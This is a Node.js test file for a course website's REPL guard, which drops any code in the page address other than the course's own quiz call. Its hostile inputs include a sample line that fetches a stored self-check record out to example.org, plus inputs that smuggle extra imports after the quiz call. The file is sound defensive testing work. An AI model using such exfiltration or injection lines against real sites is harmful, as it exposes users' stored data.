// The live site's guard (selfcheck-live-guard.js): the REPL may run by itself only the
// course's own live quiz; any other code in its address is dropped. Run: node --test tests/js
"use strict";

const test = require("node:test");
const assert = require("node:assert/strict");
const { cleanedQuery } = require("../../selfcheck/static/selfcheck-live-guard.js");

const QUIZ = 'from selfcheck.live import quiz\nquiz("hormone-therapy")';
const query = (params) => new URLSearchParams(params).toString();

test("the live quiz's own code stays", () => {
  assert.equal(cleanedQuery("?" + query({ kernel: "python", code: QUIZ })), null);
  assert.equal(cleanedQuery("?" + query({ code: 'from selfcheck.live import quiz\nquiz("final-check")' })), null);
});

test("an address without code is left alone", () => {
  assert.equal(cleanedQuery("?kernel=python&toolbar=1"), null);
  assert.equal(cleanedQuery(""), null);
});

test("any other code is dropped and the rest of the address kept", () => {
  const hostile = [
    'import js\njs.fetch("https://example.org/?" + js.localStorage.getItem("selfcheck-record/v1"))',
    QUIZ + "\nimport js",
    'from selfcheck.live import quiz\nquiz("hormone-therapy"); import os',
    'from selfcheck.live import quiz\nquiz("Hormone")',
    'from selfcheck.live import quiz\nquiz("a--b")',
    'from selfcheck.live import quiz\r\nquiz("hormone-therapy")',
    "",
  ];
  for (const code of hostile) {
    assert.equal(cleanedQuery("?" + query({ kernel: "python", code, toolbar: "1" })), "kernel=python&toolbar=1", code);
  }
});

test("a second code line after the quiz's own is dropped with it", () => {
  const search = "?" + query([["code", QUIZ], ["code", "import js"], ["kernel", "python"]]);
  assert.equal(cleanedQuery(search), "kernel=python");
});
